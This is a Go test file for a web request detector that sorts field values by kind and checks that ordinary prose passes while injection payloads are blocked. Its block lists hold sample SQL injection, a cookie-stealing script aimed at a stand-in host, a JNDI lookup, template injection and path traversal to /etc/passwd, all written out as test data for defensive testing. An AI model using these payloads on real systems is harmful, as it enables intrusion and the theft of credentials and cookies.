package payload

import (
	"context"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
)

// jsonField is a JSON body {"<name>": value}.
func jsonField(name, value string) string {
	b, _ := json.Marshal(map[string]string{name: value})
	return string(b)
}

func TestClassify(t *testing.T) {
	for _, tc := range []struct {
		name, loc, field, v string
		want                valueKind
	}{
		{"id", "query", "id", "1' OR '1'='1", kindStructured},
		{"sort key", "query", "sort", "name desc", kindStructured},
		{"header", "header", "", "How do I use grep to find this file?", kindStructured},
		{"search", "query", "q", "SELECT * FROM users", kindText},
		{"prose", "json", "x", "How do I escape the output of this function in my templates?", kindProse},
		{"prose in a comment", "form", "comment", "`pstree -p` is a helpful display of the process tree", kindMarkdown},
		{"markdown with a fence", "json", "body", "Build it:\n```sh\nmake\n```\n", kindMarkdown},
		{"code", "json", "content", "function total(xs) {\n  return xs.reduce((a, b) => a + b, 0);\n}\ntotal([1, 2]);\n", kindCode},
		{"sql payload with keywords", "query", "p", "1) as x where 1=1;select case when 7=7 then 1 else null end--", kindStructured},
		{"one word", "json", "comment", "ok", kindStructured},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := classify([]byte(tc.v), charMask([]byte(tc.v)), tc.loc, textField([]byte(tc.field))); got != tc.want {
				t.Errorf("classify(%q at %s %q) = %v, want %v", tc.v, tc.loc, tc.field, got, tc.want)
			}
		})
	}
}

// textCases are values in fields that take text: what people write must
// pass, what breaks out of its context or runs where it lands must block.
var textPass = []struct{ name, field, v string }{
	{"sql question", "content", "Fix this query: SELECT name FROM users WHERE id = 1 OR 1=1; why does it return every row?"},
	{"shell question", "content", "Why does `cat /proc/cpuinfo | grep MHz` print nothing on my ARM board?"},
	{"traversal question", "content", "What does ../../etc/passwd mean in a web server log?"},
	{"script in a code span", "body", "How do I escape `<script>alert(1)</script>` in a React component?"},
	{"php in a code span", "body", "Explain this PHP: `<?php system($_GET['cmd']); ?>` is it dangerous?"},
	{"fenced js and curl", "body", "## Fetching\n\n```js\nfetch('/api').then(r => r.json())\n```\n\nOr from a shell: `curl -s https://api.example.com/x | jq .name`\n"},
	{"rm in a comment", "comment", "use `rm -rf ./build` to clean"},
	{"embed and a button", "body", "Watch it:\n<iframe src=\"https://www.youtube.com/embed/abc\"></iframe>\n<button onclick=\"save()\">Save</button>\nthen tell me what you think of it"},
	{"search words", "q", "union select committee"},
	{"search code", "q", "SELECT * FROM users WHERE id = 1"},
	{"react handler snippet", "content", "function App() {\n  return <button onClick={() => { alert('hi') }}>Hi</button>;\n}\nexport default App;\n"},
	{"js template literal", "content", "const s = `pid ${process.pid}`;\nconsole.log(s);\nprocess.exit(0);\n"},
	{"sql code with literals", "body", "SELECT * FROM t\nWHERE dept_no = 'd001' OR dept_no = 'd002';\n-- same as IN ('d001', 'd002')\n"},
	{"apostrophes", "comment", "It's what users' or admins' accounts do when they don't log in"},
	{"markdown link", "body", "See [the prelude](../std/prelude/index.html) for what it imports, and the guide."},
	{"vue template", "body", "In the template write {{ message }} and the page shows it when the data changes."},
	{"batch prose", "comment", "If you remove the suppression comment, the linter will warn you about it"},
}

var textBlock = []struct{ name, field, v string }{
	{"quote breakout", "comment", "nice post' UNION SELECT password FROM users--"},
	{"tautology", "q", "admin' OR '1'='1"},
	{"comment cut", "q", "admin'--"},
	{"numeric breakout", "q", "1 OR 1=1"},
	{"stacked", "comment", "great article'; DROP TABLE posts; --"},
	{"script element", "comment", "Great article, thanks! <script>document.location='//x.example/?c='+document.cookie</script>"},
	{"handler with a sink", "body", "lovely photo of the lake <img src=x onerror=alert(document.domain)> really"},
	{"javascript link", "body", "Click [here](javascript:alert(1)) for the prize, it is worth it"},
	{"entity encoded script", "comment", "&lt;script&gt;alert(1)&lt;/script&gt;"},
	{"template reaching for code", "title", "Hello {{ self.__init__.__globals__.__builtins__ }} there"},
	{"jndi lookup", "comment", "look at this ${jndi:ldap://x.example/a} thanks"},
	{"leading separator", "comment", "; cat /etc/passwd"},
	{"ldap breakout", "q", "admin)(uid=*"},
}

func TestTextFields(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	for _, tc := range textPass {
		for _, r := range []struct{ kind, ct, body string }{
			{"json", "application/json", jsonField(tc.field, tc.v)},
			{"form", "application/x-www-form-urlencoded", tc.field + "=" + url.QueryEscape(tc.v)},
		} {
			t.Run("pass/"+tc.name+"/"+r.kind, func(t *testing.T) {
				if v := d.Detect(ctx, post(r.ct, r.body)); v.Confidence > 0.5 {
					t.Errorf("flagged %q %.2f %q", v.Violation, v.Confidence, v.Messages)
				}
			})
		}
	}
	for _, tc := range textBlock {
		for _, r := range []struct{ kind, ct, body string }{
			{"json", "application/json", jsonField(tc.field, tc.v)},
			{"form", "application/x-www-form-urlencoded", tc.field + "=" + url.QueryEscape(tc.v)},
		} {
			t.Run("block/"+tc.name+"/"+r.kind, func(t *testing.T) {
				if v := d.Detect(ctx, post(r.ct, r.body)); v.Confidence < 0.8 {
					t.Errorf("not blocked: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
				}
			})
		}
	}
}

// TestStructuredFieldsStayStrict: what text passes in a text field still
// blocks where a value is put into a query or a command as it is.
func TestStructuredFieldsStayStrict(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	for _, target := range []string{
		"/p?id=1+UNION+SELECT+password+FROM+users",
		"/p?file=..%2F..%2F..%2Fetc%2Fpasswd",
		"/p?host=example.com%3Bcat+%2Fetc%2Fpasswd",
		"/p?v=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
	} {
		if v := d.Detect(ctx, get(target)); v.Confidence < 0.8 {
			t.Errorf("%s: not blocked: %q %.2f %q", target, v.Violation, v.Confidence, v.Messages)
		}
	}
}

func TestMaskCode(t *testing.T) {
	in := "a `<b>` c\n```\n<script>x</script>\n```\nd ``e`f`` g"
	got := string(maskCode(nil, []byte(in)))
	if len(got) != len(in) {
		t.Fatalf("length changed: %q", got)
	}
	for _, gone := range []string{"<b>", "<script>", "e`f"} {
		if strings.Contains(got, gone) {
			t.Errorf("maskCode(%q) = %q, still holds %q", in, got, gone)
		}
	}
	for _, kept := range []string{"a ", " c", "d ", " g"} {
		if !strings.Contains(got, kept) {
			t.Errorf("maskCode(%q) = %q, lost %q", in, got, kept)
		}
	}
}

// FuzzText checks that classifying and judging any text value is bounded
// and panics on nothing, and that masking keeps the value's length and
// line breaks.
func FuzzText(f *testing.F) {
	for _, s := range []string{"", "```", "``x", "<a onclick=", "<script", "x' OR 1=1", "1 or", "[x](javascript:", "{{", "${jndi:", "if exist", "a\nb\nc;\n", "](", "\"'\"'"} {
		f.Add(s, "comment")
	}
	d, err := New(DefaultConfig())
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, v, name string) {
		classify([]byte(v), charMask([]byte(v)), "json", textField([]byte(name)))
		m := maskCode(nil, []byte(v))
		if len(m) != len(v) || strings.Count(string(m), "\n") != strings.Count(v, "\n") {
			t.Fatalf("maskCode(%q) = %q", v, m)
		}
		s := d.pool.Get().(*scan)
		defer d.pool.Put(s)
		defer s.reset()
		for k := kindText; k <= kindCode; k++ {
			s.inspectText([]byte(v), charMask([]byte(v)), k)
		}
	})
}
